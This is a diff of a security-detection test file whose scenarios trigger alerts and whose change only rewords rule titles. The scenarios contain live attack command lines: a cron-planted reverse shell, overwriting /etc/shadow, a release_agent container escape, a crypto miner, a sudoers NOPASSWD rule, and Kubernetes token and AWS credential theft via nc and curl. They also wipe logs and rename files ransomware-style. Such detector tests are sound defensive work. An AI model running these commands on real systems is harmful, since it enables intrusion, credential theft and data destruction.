@@ -51,7 +51,7 @@ SCENARIOS: Final = (
     Scenario(
         "A web shell becomes a reverse shell, reads credentials and comes back by cron",
         Trigger(
-            "Shell with a connection as its terminal",
+            "Shell with a network connection as its terminal",
             "",
             elsewhere(
                 f"echo root:x > /etc/shadow; mkdir /etc/cron.d; cat > $TMP/reverse.py <<'END'\n{_REVERSE}\nEND\n"
@@ -60,16 +60,16 @@ SCENARIOS: Final = (
         ),
         (
             "Shell started by a network server",
-            "Connection made the standard input or output of a program",
+            "Network connection made a program's standard input or output",
             "Password database read by an unexpected program",
-            "Timed job planted",
+            "Scheduled job changed",
         ),
         ("proc.stdin.name", "proc.stdout.name"),
     ),
     Scenario(
         "A container escapes by release_agent",
         Contained(
-            "Kernel told from a container to run a program",
+            "Kernel helper program set from a container",
             "",
             "/bin/mkdir -p /tmp/cg; /bin/mount -t tmpfs x /tmp/cg; echo /tmp/cg/run > /tmp/cg/release_agent",
             box="admin",
@@ -79,7 +79,7 @@ SCENARIOS: Final = (
     Scenario(
         "A miner is dropped and run",
         Contained(
-            "Miner of coins run",
+            "Cryptocurrency miner run",
             "",
             "/bin/cp /bin/busybox /tmp/xmrig; /tmp/xmrig -o stratum+tcp://203.0.113.9:3333 -u w",
         ),
@@ -88,7 +88,7 @@ SCENARIOS: Final = (
     Scenario(
         "An SSH key is planted",
         Trigger(
-            "SSH login key planted",
+            "SSH login key added",
             "",
             (
                 "$PYTHON",
@@ -104,28 +104,28 @@ SCENARIOS: Final = (
             "echo x > /var/log/auth.log; : > /var/log/auth.log; touch /var/log/wtmp; rm /var/log/wtmp; "
             "echo x > $TMP/.bash_history; rm $TMP/.bash_history",
         ),
-        ("History of commands removed",),
+        ("Command history removed",),
     ),
     Scenario(
         "A user is let become root by sudo",
-        _shell("Rules of sudo changed", "mkdir -p /etc/sudoers.d; echo 'x ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/x"),
+        _shell("sudo rules changed", "mkdir -p /etc/sudoers.d; echo 'x ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/x"),
     ),
     Scenario(
         "A pod's token is stolen and used",
         Contained(
-            "Token of a service account read by an unexpected program",
+            "Service account token read by an unexpected program",
             "",
             "d=/run/secrets/kubernetes.io/serviceaccount; /bin/mkdir -p $d; echo secret > $d/token; "
             "/bin/nc -l -p 6443 > /dev/null & "
             "until /bin/cat $d/token | /bin/nc -w 1 127.0.0.1 6443; do /bin/sleep 0.1; done",
             box="pod",
         ),
-        ("Server of the cluster asked from a container by a tool",),
+        ("Kubernetes API requested from a container by a tool",),
     ),
     Scenario(
         "Files are packed and sent out by curl",
         _on_host(
-            "File sent out by a transfer tool",
+            "File uploaded by a transfer tool",
             "mkdir -p $TMP/.aws; echo > $TMP/.aws/credentials; cd $TMP; cp .aws/credentials loot; "
             "curl -s -m 1 -T loot http://127.0.0.1:9/",
         ),
@@ -140,7 +140,7 @@ SCENARIOS: Final = (
     Scenario(
         "Files are made unreadable for ransom",
         _on_host(
-            "Files renamed as by ransomware",
+            "Files renamed as ransomware does",
             "mkdir -p $TMP/docs; cd $TMP/docs; for n in 1 2 3 4 5; do echo > $$n; mv $$n $$n.locked; done",
         ),
         subject=("fs.path.source", "fs.path.target"),
